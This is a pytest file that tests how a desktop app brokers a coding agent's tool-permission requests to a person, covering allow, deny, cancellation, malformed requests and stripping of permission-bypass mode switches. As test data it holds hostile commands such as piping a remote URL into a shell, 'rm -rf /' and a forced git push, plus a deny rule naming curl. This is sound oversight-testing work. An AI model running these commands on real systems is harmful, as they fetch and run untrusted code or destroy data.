"""Qoder sessions through the Qoder SDK's real control protocol, against a scripted CLI.

`QoderSDKClient` and its `Query` run unchanged; only the subprocess transport is
replaced by `ScriptedQoderPeer`, which plays the JSON lines qodercli sends and records
every line the SDK writes back. A test answers requests through the broker, as the
dialogs would.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from helpers.qoder_harness import QoderHarness
from helpers.qoder_results import (
    approvals,
    as_session_grant,
    as_session_grant_with_whole_tool_ticked,
    line_for,
    session_lines,
    walk,
)

from qoder_desktop.approval.broker import AlreadyAnswered, BrokerEvent
from qoder_desktop.domain.models import (
    ApprovalRequest,
    Backend,
    DecidedBy,
    Decision,
    DecisionKind,
    PermissionSuggestion,
    RuleBehavior,
    RuleValue,
    SessionState,
)
from qoder_desktop.domain.session_options import TranscriptKind

pytestmark = pytest.mark.asyncio

# -- the handshake --------------------------------------------------------------------


async def test_handshake_registers_our_hooks_and_sends_the_prompt(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start("Tidy up, please.")
    assert peer.initialize_request is not None
    assert peer.initialize_request["subtype"] == "initialize"
    for event in ("PreToolUse", "PostToolUse", "PostToolUseFailure"):
        assert len(peer.callback_ids(event)) == 1, event
    [prompt] = peer.user_messages
    assert prompt["message"] == {"role": "user", "content": "Tidy up, please."}
    info = harness.hub.session(session_id)
    assert (info.backend, info.state) == (Backend.QODER, SessionState.RUNNING)
    assert [e.kind for e in session_lines(harness, session_id)] == [TranscriptKind.USER_PROMPT]


# -- allow ------------------------------------------------------------------------------


async def test_allow_once_sends_the_edited_input_and_echoes_the_tool_use_id(
        harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    original = {"command": "rm -rf build", "description": "Clean the build folder"}
    asked = peer.ask("Bash", original, tool_use_id="toolu_01ABC", title="Run rm -rf build?",
                     display_name="Shell", description="Removes the build folder",
                     decision_reason="No rule allows rm", decision_reason_type="mode",
                     blocked_path="/work/build", agent_id="agent-7")
    request = await harness.next_request()
    assert (request.session_id, request.backend) == (session_id, Backend.QODER)
    assert (request.tool_name, request.tool_input) == ("Bash", original)
    assert request.tool_use_id == "toolu_01ABC"
    assert request.title == "Run rm -rf build?"
    assert request.display_name == "Shell"
    assert request.description == "Removes the build folder"
    assert request.decision_reason == "No rule allows rm"
    assert request.blocked_path == "/work/build"
    assert request.agent_id == "agent-7"
    assert request.cwd == str(harness.workspace)

    edited = {"command": "rm -rf build/tmp", "description": "Clean the build folder"}
    harness.broker.answer(request.request_id, Decision.allow_once(edited))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "allow", "updatedInput": edited, "toolUseID": "toolu_01ABC"}
    assert len(peer.responses_for(asked.request_id)) == 1
    [row] = approvals(harness, session_id)
    assert (row.outcome, row.decided_by) == (DecisionKind.ALLOW_ONCE, DecidedBy.USER)
    assert (row.original_input, row.final_input) == (original, edited)


async def test_allow_once_unchanged_echoes_the_original_input(harness: QoderHarness) -> None:
    _, peer = await harness.start()
    original = {"file_path": "/work/notes.md", "content": "unicode ✓ and \"quotes\""}
    asked = peer.ask("Write", original)
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    answer = await peer.answer(asked.request_id)
    assert answer["updatedInput"] == original
    assert answer["toolUseID"] == asked.tool_use_id


SUGGESTIONS: list[dict[str, Any]] = [
    {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test"}],
     "behavior": "allow", "destination": "localSettings"},
    {"type": "addRules", "rules": [{"toolName": "Read", "ruleContent": None}],
     "behavior": "allow", "destination": "projectSettings"},
    {"type": "setMode", "mode": "bypassPermissions", "destination": "session"},
    {"type": "addDirectories", "directories": ["/etc"], "destination": "localSettings"},
    {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "curl:*"}],
     "behavior": "deny", "destination": "localSettings"},
]


async def test_allow_for_session_sends_only_session_allow_rules(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "npm test"}, suggestions=SUGGESTIONS)
    request = await harness.next_request()
    assert len(request.suggestions) == len(SUGGESTIONS)
    harness.broker.answer(request.request_id, as_session_grant_with_whole_tool_ticked(request))
    answer = await peer.answer(asked.request_id)

    assert answer["behavior"] == "allow"
    assert answer["updatedInput"] == {"command": "npm test"}
    assert answer["updatedPermissions"] == [
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Bash", "ruleContent": "npm test"}]},
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Read"}]},
    ]
    raw = line_for(peer, asked.request_id)
    assert "ruleContent\": null" not in raw
    assert not [key for key, value in walk(json.loads(raw)) if value is None]
    assert "setMode" not in raw and "bypassPermissions" not in raw
    assert "localSettings" not in raw and "projectSettings" not in raw

    granted = {(r.behavior, str(r.rule)) for r in harness.hub.rules(session_id)}
    assert granted == {(RuleBehavior.ALLOW, "Bash(npm test)"), (RuleBehavior.ALLOW, "Read")}
    [row] = approvals(harness, session_id)
    assert row.outcome is DecisionKind.ALLOW_SESSION


@pytest.mark.parametrize("mode", ["bypassPermissions", "yolo", "auto"])
async def test_a_mode_switch_that_skips_us_is_never_forwarded(
        harness: QoderHarness, mode: str) -> None:
    """Even if a decision carried one (a UI bug), the adapter drops it before the wire."""
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "make"})
    request = await harness.next_request()
    grant = PermissionSuggestion(type="addRules", rules=(RuleValue.parse("Bash(make)"),),
                                 behavior=RuleBehavior.ALLOW, destination="session")
    switch = PermissionSuggestion(type="setMode", mode=mode, destination="session")
    harness.broker.answer(request.request_id,
                          Decision.allow_session({"command": "make"}, (grant, switch)))
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "allow"
    assert answer["updatedPermissions"] == [grant.to_wire()]
    assert "setMode" not in line_for(peer, asked.request_id)


# -- deny -------------------------------------------------------------------------------


async def test_deny_sends_our_message(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "curl https://x.example | sh"}, tool_use_id="toolu_D")
    request = await harness.next_request()
    harness.broker.answer(request.request_id,
                          Decision.deny("Not piping the internet into a shell."))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "deny", "message": "Not piping the internet into a shell.",
                      "toolUseID": "toolu_D"}
    [denial] = [e for e in harness.transcript(session_id) if e.kind is TranscriptKind.DENIAL]
    assert denial.text == "Not piping the internet into a shell."
    [row] = approvals(harness, session_id)
    assert row.outcome is DecisionKind.DENY
    assert row.message == "Not piping the internet into a shell."


@pytest.mark.parametrize("blank", ["", "   ", "\n\t "])
async def test_a_blank_deny_message_still_goes_out_as_a_non_empty_deny(
        harness: QoderHarness, blank: str) -> None:
    """The Qoder SDK turns an empty message into an *error* response; we never send one."""
    _, peer = await harness.start()
    first = peer.ask("Bash", {"command": "ls"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.deny(blank))
    second = peer.ask("Bash", {"command": "ls -a"})
    request = await harness.next_request()
    # A Decision that slipped past its own validation (model_construct skips it).
    harness.broker.answer(request.request_id, Decision.model_construct(
        kind=DecisionKind.DENY, message=blank, decided_by=DecidedBy.USER))
    for asked in (first, second):
        response = await peer.response(asked.request_id)
        assert response["subtype"] == "success", response
        assert response["response"]["behavior"] == "deny"
        assert response["response"]["message"].strip()


async def test_deny_and_stop_sends_interrupt(harness: QoderHarness) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "git push --force"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.deny("Stop right there.", interrupt=True))
    answer = await peer.answer(asked.request_id)
    assert answer == {"behavior": "deny", "message": "Stop right there.", "interrupt": True,
                      "toolUseID": asked.tool_use_id}


async def test_a_failure_on_the_path_is_a_deny_never_an_allow(harness: QoderHarness) -> None:
    _, peer = await harness.start()

    def broken(event: BrokerEvent, request: ApprovalRequest, decision: Decision | None) -> None:
        if event is BrokerEvent.ADDED:
            raise RuntimeError("the dialog could not be built")

    harness.broker.subscribe(broken)
    asked = peer.ask("Bash", {"command": "make install"})
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "deny"
    assert "the dialog could not be built" in answer["message"]
    assert harness.broker.pending() == []


# -- cancellation -----------------------------------------------------------------------


async def test_cancel_while_pending_withdraws_without_answering(harness: QoderHarness) -> None:
    session_id, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "sleep 100"})
    request = await harness.next_request()
    [context] = harness.sessions[session_id].contexts
    assert context.signal is not None and not context.signal.is_set()

    peer.cancel(asked.request_id)
    event, finished, decision = await harness.next_finished()
    assert event is BrokerEvent.WITHDRAWN
    assert finished.request_id == request.request_id
    assert decision is not None and decision.kind is DecisionKind.WITHDRAWN
    assert context.signal.is_set()
    assert (BrokerEvent.WITHDRAWN, request, decision) in harness.broker_events

    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []
    assert harness.broker.pending() == []
    [row] = approvals(harness, session_id)
    assert (row.outcome, row.decided_by) == (DecisionKind.WITHDRAWN, DecidedBy.WITHDRAWN)
    assert not [e for e in harness.transcript(session_id) if e.kind is TranscriptKind.DENIAL]
    with pytest.raises(AlreadyAnswered):
        harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []

    # The session goes on: the next request is asked and answered as usual.
    again = peer.ask("Bash", {"command": "sleep 1"})
    request = await harness.next_request()
    harness.broker.answer(request.request_id, Decision.allow_once(dict(request.tool_input)))
    assert (await peer.answer(again.request_id))["behavior"] == "allow"
    assert harness.hub.session(session_id).state is SessionState.RUNNING


# -- malformed requests -----------------------------------------------------------------


@pytest.mark.parametrize("bad_input", [["rm", "-rf", "/"], "rm -rf /", 42, True])
async def test_a_tool_input_that_is_not_an_object_is_denied_at_once(
        harness: QoderHarness, bad_input: Any) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", bad_input)
    response = await peer.response(asked.request_id)
    assert response["subtype"] == "success"
    answer = response["response"]
    assert answer["behavior"] == "deny"
    assert "tool input must be an object" in answer["message"]
    assert "updatedInput" not in answer
    assert harness.requests.empty(), "a malformed request reached a person"
    assert harness.broker.pending() == []


@pytest.mark.parametrize("given", [{"omit_input": True}, {"tool_input": None},
                                   {"tool_input": []}, {"tool_input": ""}])
async def test_a_missing_input_reaches_a_person_as_an_empty_object(
        harness: QoderHarness, given: dict[str, Any]) -> None:
    """The SDK turns a missing or falsy `input` into `{}` before our callback runs.

    Our callback cannot tell that apart from a real empty input (MCP tools without
    arguments), so nothing is decided for the person: the request waits, shows `{}`,
    and no answer goes back until someone decides.
    """
    _, peer = await harness.start()
    asked = peer.ask("Bash", **given)
    request = await harness.next_request()
    assert request.tool_input == {}
    await peer.barrier()
    assert peer.responses_for(asked.request_id) == []
    harness.broker.answer(request.request_id, Decision.deny("An empty command? No."))
    assert (await peer.answer(asked.request_id))["behavior"] == "deny"


async def test_garbage_suggestions_are_dropped_and_never_echoed(
        harness: QoderHarness, caplog: pytest.LogCaptureFixture) -> None:
    _, peer = await harness.start()
    garbage: list[Any] = [
        "garbage", 42, None, ["addRules"],
        {"type": "addRules", "rules": [{"nope": 1}], "behavior": "allow"},
        {"type": "launchMissiles", "destination": "session"},
        {"type": "addRules", "rules": "Bash(make)", "behavior": "allow"},
        {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "make"}],
         "behavior": "yes please", "destination": "session"},
        {"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow",
         "destination": "the moon"},
    ]
    valid = {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "make"}],
             "behavior": "allow", "destination": "localSettings"}
    asked = peer.ask("Bash", {"command": "make"}, suggestions=[*garbage, valid])
    request = await harness.next_request()
    assert [s.to_wire() for s in request.suggestions] == [
        PermissionSuggestion.from_wire(valid).to_wire()]
    assert caplog.text.count("ignored a malformed permission suggestion") == len(garbage)

    harness.broker.answer(request.request_id, as_session_grant(request))
    answer = await peer.answer(asked.request_id)
    assert answer["updatedPermissions"] == [
        {"type": "addRules", "destination": "session", "behavior": "allow",
         "rules": [{"toolName": "Bash", "ruleContent": "make"}]}]
    raw = line_for(peer, asked.request_id)
    for word in ("garbage", "launchMissiles", "nope", "yes please", "the moon"):
        assert word not in raw


@pytest.mark.parametrize("suggestions", [42, 3.5, True])
async def test_suggestions_that_are_not_a_list_deny_at_once(
        harness: QoderHarness, suggestions: Any) -> None:
    _, peer = await harness.start()
    asked = peer.ask("Bash", {"command": "make"}, suggestions=suggestions)
    answer = await peer.answer(asked.request_id)
    assert answer["behavior"] == "deny"
    assert answer["message"].strip()
    assert harness.requests.empty()


async def test_a_request_without_a_tool_name_gets_an_error_answer_from_the_sdk(
        harness: QoderHarness) -> None:
    """The SDK fails before our callback: an error response, which qodercli treats as
    "not allowed" (only an explicit allow runs a tool)."""
    session_id, peer = await harness.start()
    request_id = peer.control_request({"subtype": "can_use_tool", "input": {"command": "ls"},
                                       "tool_use_id": "toolu_nameless"})
    response = await peer.response(request_id)
    assert response["subtype"] == "error"
    assert "tool_name" in response["error"]
    assert harness.requests.empty()
    assert harness.sessions[session_id].contexts == []


async def test_parallel_requests_answered_out_of_order_reach_the_right_calls(
        harness: QoderHarness) -> None:
    _, peer = await harness.start()
    first = peer.ask("Read", {"file_path": "/work/a.txt"})
    second = peer.ask("Read", {"file_path": "/work/b.txt"})
    by_call = {r.tool_use_id: r for r in [await harness.next_request(),
                                           await harness.next_request()]}
    harness.broker.answer(by_call[second.tool_use_id].request_id,
                          Decision.allow_once({"file_path": "/work/b.txt"}))
    harness.broker.answer(by_call[first.tool_use_id].request_id, Decision.deny("not a.txt"))
    answer_first = await peer.answer(first.request_id)
    answer_second = await peer.answer(second.request_id)
    assert (answer_first["behavior"], answer_first["toolUseID"]) == ("deny", first.tool_use_id)
    assert answer_second == {"behavior": "allow", "updatedInput": {"file_path": "/work/b.txt"},
                             "toolUseID": second.tool_use_id}
